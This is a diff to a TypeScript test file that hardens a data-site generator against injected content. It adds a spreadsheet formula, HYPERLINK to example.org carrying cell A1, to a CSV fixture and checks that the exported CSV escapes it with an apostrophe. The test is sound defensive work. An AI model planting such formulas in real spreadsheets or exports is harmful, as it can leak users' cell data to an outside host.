@@ -3,6 +3,8 @@ import {tmpdir} from "node:os";
 import {join} from "node:path";
 import type {Page} from "playwright-core";
 import {afterAll, beforeAll, describe, expect, it} from "vitest";
+import {selectRows} from "../../loaders/disk/duckdb.js";
+import {readExtract} from "../../loaders/disk/read-extract.js";
 import {changedExtract} from "../support/command.js";
 import {buildCopy, copyProject} from "./project-copy.js";
 import {serveFolder} from "./server.js";
@@ -16,6 +18,7 @@ const fence = "```js window.broken = 1 ```";
 const comment = "<!-- --> <!--:a829e193:-->";
 const turned = "\u202Eturned\u202C";
 const long = "W".repeat(10_000);
+const formula = `=HYPERLINK("http://example.org/?"&A1)`;
 
 const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
 
@@ -42,7 +45,7 @@ beforeAll(async () => {
     "excerpts.csv": (text) =>
       text.replace(
         /^E0001,P001,([^,]*),([^,]*),.*$/m,
-        `E0001,P001,$1,$2,${quoted(image + script + interpolation)}`
+        `E0001,P001,$1,$2,${quoted(formula + image + script + interpolation)}`
       ),
     "datapackage.json": (text) =>
       text.replace('"title": "', () => `"title": ${JSON.stringify(`${image}${script}`).slice(0, -1)} `)
@@ -93,6 +96,23 @@ describe("an extract whose words try to be markup", () => {
     await card.getByRole("table").waitFor();
     const words = (await card.getByRole("table").textContent()) ?? "";
     for (const text of [image, script, interpolation, markdown]) expect(words).toContain(text);
+  });
+});
+
+describe("the tables of such a site, as CSV", () => {
+  it("have an apostrophe before a formula, and are the same extract when they are read again", async () => {
+    expect(await here("data/excerpts.csv")).toContain(
+      `,${quoted(`'${formula}${image}${script}`).slice(0, -1)}`
+    );
+    const tables = async (directory: string) => {
+      const read = await readExtract(directory);
+      const rows = await Promise.all(
+        read.package.resources.map(({name}) => selectRows(read.connection, `FROM ${name} ORDER BY ALL`))
+      );
+      read.close();
+      return rows;
+    };
+    expect(await tables(join(folder, "first/dist"))).toEqual(await tables(extract));
   });
 });
 
